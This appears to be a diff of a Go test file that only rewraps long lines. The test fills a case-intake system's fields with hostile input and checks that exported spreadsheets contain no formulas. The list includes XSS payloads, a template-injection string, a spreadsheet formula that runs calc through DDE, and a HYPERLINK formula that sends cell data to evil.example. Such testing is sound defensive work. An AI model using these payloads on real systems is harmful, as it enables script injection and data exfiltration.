@@ -24,12 +24,16 @@ import (
 
 // hostile are texts that break pages, tables and terminals which take them for more than text.
 var hostile = []string{
-	`<script>alert(1)</script>`, `"><img src=x onerror=alert(2)>`, `' onmouseover='alert(3)' x='`, `</title></textarea><svg onload=alert(4)>`, `javascript:alert(5)`,
-	`{{.Secret}}${alert(6)}`, `<a href="https://evil.example/">点此登录</a>`, `&lt;script&gt;alert(7)&lt;/script&gt;`, `]]><xss-probe>`, `<style>*{display:none}</style>`,
-	`=cmd|'/c calc'!A1`, `+1+1`, `-2+3`, `@SUM(A1:A9)`, `=HYPERLINK("https://evil.example/?"&A1,"点此")`, "\u202e司公张三", "张\u200b三", "a\u0301\u0301\u0301\u0301\u0301", "𠮷野家\ue000",
+	`<script>alert(1)</script>`, `"><img src=x onerror=alert(2)>`, `' onmouseover='alert(3)' x='`,
+	`</title></textarea><svg onload=alert(4)>`, `javascript:alert(5)`,
+	`{{.Secret}}${alert(6)}`, `<a href="https://evil.example/">点此登录</a>`, `&lt;script&gt;alert(7)&lt;/script&gt;`,
+	`]]><xss-probe>`, `<style>*{display:none}</style>`,
+	`=cmd|'/c calc'!A1`, `+1+1`, `-2+3`, `@SUM(A1:A9)`, `=HYPERLINK("https://evil.example/?"&A1,"点此")`, "\u202e司公张三",
+	"张\u200b三", "a\u0301\u0301\u0301\u0301\u0301", "𠮷野家\ue000",
 }
 
-var newcomer = staff.OperatorSpec{Name: "newcomer", Person: "新人", Phone: "0471-0000000", Role: intake.Clerk, Identifier: "newcomer"}
+var newcomer = staff.OperatorSpec{Name: "newcomer", Person: "新人", Phone: "0471-0000000", Role: intake.Clerk,
+	Identifier: "newcomer"}
 
 // fullHouse has something hostile wherever a person or a machine may write.
 func fullHouse(t *testing.T) (h *house, accepted []string) {
@@ -61,7 +65,8 @@ func fullHouse(t *testing.T) (h *house, accepted []string) {
 			h.must(h.ReturnCase(ctx, id, hostile[i]))
 		}
 	}
-	_, err := h.CreateOperator(ctx, root, staff.OperatorSpec{Name: "hostile", Person: hostile[0], Phone: hostile[1], Role: intake.Clerk, Identifier: "hostile"})
+	_, err := h.CreateOperator(ctx, root, staff.OperatorSpec{Name: "hostile", Person: hostile[0], Phone: hostile[1],
+		Role: intake.Clerk, Identifier: "hostile"})
 	h.must(err)
 	h.strangeVisit()
 	h.recordCalls()
@@ -78,7 +83,8 @@ func (h *house) strangeVisit() {
 	h.enter(intake.Clerk, "stranger1")
 	h.wait(time.Minute)
 	for _, name := range []string{hostile[0], "stranger1"} {
-		r, _ := http.NewRequest("POST", h.console.URL+"/console/login", strings.NewReader(form("name", name, "password", password, "code", h.code()).Encode()))
+		r, _ := http.NewRequest("POST", h.console.URL+"/console/login",
+			strings.NewReader(form("name", name, "password", password, "code", h.code()).Encode()))
 		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
 		r.Header.Set("User-Agent", hostile[1])
 		w, err := h.stranger().Client.Do(r)
@@ -116,9 +122,11 @@ func hostileCase(i int, text string) api.Case {
 	if rs := []rune(text); len(rs) > 40 {
 		short = string(rs[:40])
 	}
-	return api.Case{CaseID: fmt.Sprint(short, "〔2026〕", i), CaseName: text, CaseIntroduction: text, Illegality: text, Penalty: text, PenaltyDate: "2026-11-16", PenaltyOrg: text,
+	return api.Case{CaseID: fmt.Sprint(short, "〔2026〕", i), CaseName: text, CaseIntroduction: text, Illegality: text,
+		Penalty: text, PenaltyDate: "2026-11-16", PenaltyOrg: text,
 		PenaltyList: []api.Entity{
-			{PripID: fmt.Sprint("15010400002201707173", i), UniscID: "91150104MA0N967166", Legal: text, EntType: "1151"},
+			{PripID: fmt.Sprint("15010400002201707173", i), UniscID: "91150104MA0N967166", Legal: text,
+				EntType: "1151"},
 			{PripID: short, UniscID: "9115<b>А4MА0N967", Legal: text, EntType: "1"},
 		}}
 }
@@ -163,7 +171,8 @@ func (h *house) harmlessSheet(path string, a answer) {
 				h.must(err)
 				kind, err := f.GetCellType(sheet, cell)
 				h.must(err)
-				if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" || kind == excelize.CellTypeFormula {
+				if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" ||
+					kind == excelize.CellTypeFormula {
 					h.Errorf("%s %s %s: computed: %q (%v)", path, sheet, cell, formula, err)
 				}
 			}
@@ -175,8 +184,10 @@ func (h *house) harmlessSheet(path string, a answer) {
 func (h *house) observed(r httpapi.Record) {
 	h.mu.Lock()
 	defer h.mu.Unlock()
-	h.calls = append(h.calls, intake.Call{At: h.now(), Name: string(r.Call), AppID: r.AppID, AppKey: r.AppKey, Account: r.Account, CaseID: r.CaseID, AcceptID: r.AcceptID,
-		Outcome: r.Outcome, Codes: r.Codes, Status: r.Status, Bytes: r.Bytes, Items: r.Items, Took: r.Duration, RequestID: r.RequestID, Source: r.Source})
+	h.calls = append(h.calls, intake.Call{At: h.now(), Name: string(r.Call), AppID: r.AppID, AppKey: r.AppKey,
+		Account: r.Account, CaseID: r.CaseID, AcceptID: r.AcceptID,
+		Outcome: r.Outcome, Codes: r.Codes, Status: r.Status, Bytes: r.Bytes, Items: r.Items, Took: r.Duration,
+		RequestID: r.RequestID, Source: r.Source})
 }
 
 // recordCalls writes the calls there were into the request log.
